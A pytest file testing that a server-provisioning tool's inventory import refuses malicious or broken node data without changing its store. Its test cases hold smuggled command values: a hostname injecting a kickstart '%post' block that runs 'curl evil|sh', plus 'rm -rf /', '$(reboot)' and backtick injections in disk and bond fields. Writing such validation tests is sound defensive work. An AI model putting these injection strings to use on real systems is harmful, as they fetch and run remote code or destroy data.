"""Inventory validation: a corpus of malicious or broken inventories is refused with exit 2,
the node and field named, and the store unchanged (import is one transaction)."""

from __future__ import annotations

import copy
import json

import pytest
import yaml
from click.testing import CliRunner

from provision.cli import main
from provision.domain import parse_nodes
from provision.domain.types import normalize_mac
from provision.errors import InputError

from .conftest import EXAMPLE

BASE = yaml.safe_load(EXAMPLE.read_text())


def mutate(path: str, value, node: int = 0) -> dict:
    """Copy of the example inventory with one value set ('facts.nics.0.mac' style path)."""
    data = copy.deepcopy(BASE)
    target = data["nodes"][node]
    *parents, last = path.split(".")
    for p in parents:
        target = target[int(p)] if p.isdigit() else target[p]
    if last.isdigit():
        target[int(last)] = value
    else:
        target[last] = value
    return data


def dup_node_mac() -> dict:
    data = copy.deepcopy(BASE)
    data["nodes"][1]["facts"]["nics"][3]["mac"] = data["nodes"][0]["facts"]["nics"][3]["mac"]
    return data


def dup_node_ip() -> dict:
    data = copy.deepcopy(BASE)
    data["nodes"][2]["facts"]["networks"][2]["address"] = data["nodes"][0]["facts"]["networks"][2]["address"]
    return data


def dup_name() -> dict:
    data = copy.deepcopy(BASE)
    data["nodes"][1]["name"] = data["nodes"][0]["name"]
    return data


def two_install_disks() -> dict:
    data = copy.deepcopy(BASE)
    data["nodes"][0]["facts"]["disks"][1]["install"] = True
    return data


CASES = {
    "newline-post-in-hostname": (mutate("name", "rhvnode3\n%post\ncurl evil|sh\n%end"), "nodes[0]", "name"),
    "newline-in-fqdn": (mutate("fqdn", "rhvnode3.lab.example.com\nreboot"), "nodes[0]", "fqdn"),
    "bad-mac": (mutate("facts.nics.0.mac", "zz:zz:zz:zz:zz:zz"), "rhvnode3", "facts.nics[0].mac"),
    "short-mac": (mutate("facts.nics.1.mac", "0c:c4:7a:3b:03"), "rhvnode3", "facts.nics[1].mac"),
    "multicast-mac": (mutate("facts.nics.0.mac", "01:00:5e:00:00:01"), "rhvnode3", "facts.nics[0].mac"),
    "gateway-outside-prefix": (mutate("facts.networks.0.gateway", "10.9.9.1"), "rhvnode3", "gateway 10.9.9.1 is not inside"),
    "ip-without-prefix": (mutate("facts.networks.0.address", "192.0.2.13"), "rhvnode3", "facts.networks[0].address"),
    "bond-option-shell": (mutate("facts.bonds.0.options", {"miimon": "100; reboot"}), "rhvnode3", "miimon"),
    "bond-option-comma": (mutate("facts.bonds.0.options", {"xmit_hash_policy": "layer2,mode=0"}), "rhvnode3", "xmit_hash_policy"),
    "bond-option-unknown": (mutate("facts.bonds.0.options", {"evil": "$(reboot)"}), "rhvnode3", "'evil' is not a Linux bonding option"),
    "bond-mode-unknown": (mutate("facts.bonds.0.mode", "lacp`id`"), "rhvnode3", "facts.bonds[0].mode"),
    "bond-slave-missing": (mutate("facts.bonds.0.slaves", ["eno2", "eth9"]), "rhvnode3", "facts.bonds[0].slaves: 'eth9' is not one of the host's NICs"),
    "vlan-4095": (mutate("facts.vlans.0.id", 4095), "rhvnode3", "facts.vlans[0].id"),
    "vlan-parent-missing": (mutate("facts.vlans.0.parent", "bond7"), "rhvnode3", "vlans[0].parent"),
    "mtu-too-big": (mutate("facts.nics.4.mtu", 100000), "rhvnode3", "facts.nics[4].mtu"),
    "disk-id-metachar": (mutate("facts.disks.1.id", "ata-X; rm -rf /"), "rhvnode3", "facts.disks[1].id"),
    "disk-wwn-bad": (mutate("facts.disks.0.wwn", "0xZZ"), "rhvnode3", "wwn"),
    "install-disk-unidentified": (mutate("facts.disks.0", {"id": "ata-foo", "install": True}), "rhvnode3", "needs a wwn or serial"),
    "two-install-disks": (two_install_disks(), "rhvnode3", "exactly one disk needs install: true"),
    "firmware-efi": (mutate("facts.firmware", "efi"), "rhvnode3", "facts.firmware"),
    "inline-bmc-password": (mutate("bmc.password", "hunter2"), "rhvnode3", "bmc.password: inline secrets are not accepted"),
    "profile-unknown": (mutate("profile", "windows"), "rhvnode3", "profile"),
    "dns-search-newline": (mutate("facts.dns_search", ["lab.example.com\n%pre"]), "rhvnode3", "facts.dns_search[0]"),
    "network-on-slave": (mutate("facts.networks.1.interface", "eno2"), "rhvnode3", "is a bond slave"),
    "ten-megabyte-field": (mutate("cluster", "a" * 10 * 1024 * 1024), "rhvnode3", "cluster"),
    "duplicate-mac-across-nodes": (dup_node_mac(), "rhvnode4", "also used by node 'rhvnode3'"),
    "duplicate-ip-across-nodes": (dup_node_ip(), "rhvnode5", "IP address 198.51.100.13 is also used"),
    "duplicate-name": (dup_name(), "rhvnode3", "name appears twice"),
    "unknown-field": (mutate("facts.nics.0.driver", "ixgbe"), "rhvnode3", "facts.nics[0].driver: unknown field"),
}


def snapshot_of_store(runner: CliRunner, cfg) -> list:
    res = runner.invoke(main, ["--config", str(cfg), "node", "list", "--json"])
    assert res.exit_code == 0, res.output
    return json.loads(res.output)


@pytest.fixture
def imported(cfg_path):
    runner = CliRunner()
    res = runner.invoke(main, ["--config", str(cfg_path), "node", "import", str(EXAMPLE)])
    assert res.exit_code == 0, res.output
    return runner


@pytest.mark.parametrize("case", sorted(CASES))
def test_malicious_inventory_is_refused_and_store_unchanged(case, imported, cfg_path, tmp_path):
    data, node, field = CASES[case]
    bad = tmp_path / "bad.yaml"
    bad.write_text(yaml.safe_dump(data))
    before = snapshot_of_store(imported, cfg_path)
    res = imported.invoke(main, ["--config", str(cfg_path), "node", "import", str(bad)])
    assert res.exit_code == 2, res.output
    assert node in res.output and field in res.output, res.output
    assert "\n%post" not in res.output and len(res.output) < 4000
    assert snapshot_of_store(imported, cfg_path) == before


def test_example_inventory_imports_and_reimport_adds_no_snapshot(imported, cfg_path):
    res = imported.invoke(main, ["--config", str(cfg_path), "node", "import", str(EXAMPLE)])
    assert res.exit_code == 0
    assert "0 created, 3 updated, 0 new facts snapshot(s)" in res.output
    rows = snapshot_of_store(imported, cfg_path)
    assert [r["name"] for r in rows] == ["rhvnode3", "rhvnode4", "rhvnode5"]
    assert [r["snapshot"] for r in rows] == [1, 2, 3]


def test_changed_facts_add_a_snapshot_and_keep_the_old_one(imported, cfg_path, tmp_path, svc):
    data = mutate("facts.networks.2.address", "198.51.100.99/24")
    changed = tmp_path / "changed.yaml"
    changed.write_text(yaml.safe_dump(data))
    res = imported.invoke(main, ["--config", str(cfg_path), "node", "import", str(changed)])
    assert res.exit_code == 0, res.output
    snaps = svc.store.snapshots("rhvnode3")
    assert [s.source for s in snaps] == ["file", "file"]
    assert str(snaps[0].facts.networks[2].address) == "198.51.100.13/24"
    assert str(snaps[1].facts.networks[2].address) == "198.51.100.99/24"


def test_not_yaml_and_missing_file_exit_2(imported, cfg_path, tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("nodes: [ {name: x")
    res = imported.invoke(main, ["--config", str(cfg_path), "node", "import", str(bad)])
    assert res.exit_code == 2 and "not valid YAML" in res.output
    res = imported.invoke(main, ["--config", str(cfg_path), "node", "import", str(tmp_path / "nope.yaml")])
    assert res.exit_code == 2 and "nope.yaml" in res.output


@pytest.mark.parametrize("raw,expected", [
    ("0C:C4:7A:3B:03:01", "0c:c4:7a:3b:03:01"),
    ("0c-c4-7a-3b-03-01", "0c:c4:7a:3b:03:01"),
    ("0cc47a3b0301", "0c:c4:7a:3b:03:01"),
])
def test_mac_normalised(raw, expected):
    assert normalize_mac(raw) == expected


@pytest.mark.parametrize("raw", ["0c:c4:7a-3b:03:01", "00:00:00:00:00:00", "0c:c4:7a:3b:03:01\nx", "0c:c4:7a:3b:03"])
def test_mac_rejected(raw):
    with pytest.raises(ValueError):
        normalize_mac(raw)


def test_bond_numeric_mode_normalised_and_options_sorted():
    data = mutate("facts.bonds.0.mode", "4")
    node = parse_nodes(data)[0]
    assert node.facts.bonds[0].mode == "802.3ad"
    assert node.facts.bonds[0].option_string() == "mode=802.3ad,lacp_rate=fast,miimon=100,xmit_hash_policy=layer3+4"


def test_errors_name_every_bad_node():
    data = copy.deepcopy(BASE)
    data["nodes"][0]["facts"]["nics"][0]["mac"] = "bad"
    data["nodes"][2]["facts"]["vlans"][0]["id"] = 0
    with pytest.raises(InputError) as exc:
        parse_nodes(data)
    assert "rhvnode3" in str(exc.value) and "rhvnode5" in str(exc.value)
